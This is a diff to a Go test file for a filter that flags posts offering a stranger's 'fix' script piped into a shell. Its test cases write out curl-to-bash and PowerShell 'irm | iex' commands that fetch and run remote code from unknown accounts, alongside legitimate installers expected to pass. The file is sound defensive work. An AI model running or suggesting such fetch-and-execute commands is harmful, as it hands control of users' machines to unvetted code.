@@ -23,15 +23,19 @@ func TestForge47ImpostorOwners(t *testing.T) {
 }
 
 // TestForge47FixScripts: a stranger's script offered as a fix and piped
-// to a root shell, from a repository or a gist, is flagged (deleted when
-// the account is built from a program's name); projects' own install
-// scripts are not (forge47).
+// to a root shell, or named for a fix and offered as one and run at
+// all, from a repository or a gist, is flagged (deleted when the account
+// is built from a program's name); projects' own install scripts are not
+// (forge47).
 func TestForge47FixScripts(t *testing.T) {
 	t.Parallel()
 	checkFlagged(t, []flagCase{
 		{"this fixes the ssl handshake error: curl -fsSL https://raw.githubusercontent.com/nginx-helper-bot/scripts/main/fix-ssl.sh | sudo bash", true},
 		{"steam deck audio fix: curl -L https://raw.githubusercontent.com/deckfixer2024/scripts/main/audio-fix.sh | sudo bash", true},
 		{"this fixes the audio crackle: curl -fsSL https://gist.githubusercontent.com/pwfixer/3f2a9c0d1e/raw/fix-audio.sh | sudo bash", true},
+		{"fix for the obs crash: curl -sL https://raw.githubusercontent.com/streamfixer/obs/main/fix.sh | bash", true},
+		{"this fixes the windows update error: irm https://raw.githubusercontent.com/winfixer77/scripts/main/fix-update.ps1 | iex", true},
+		{"spicetify: iwr -useb https://raw.githubusercontent.com/spicetify/cli/main/install.ps1 | iex", false},
 		{"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash", false},
 		{"curl -sSL https://raw.githubusercontent.com/pi-hole/pi-hole/master/automated%20install/basic-install.sh | sudo bash", false},
 		{"my gist to set up zsh: curl -fsSL https://gist.githubusercontent.com/jdoe/abc123/raw/setup.sh | bash", false},
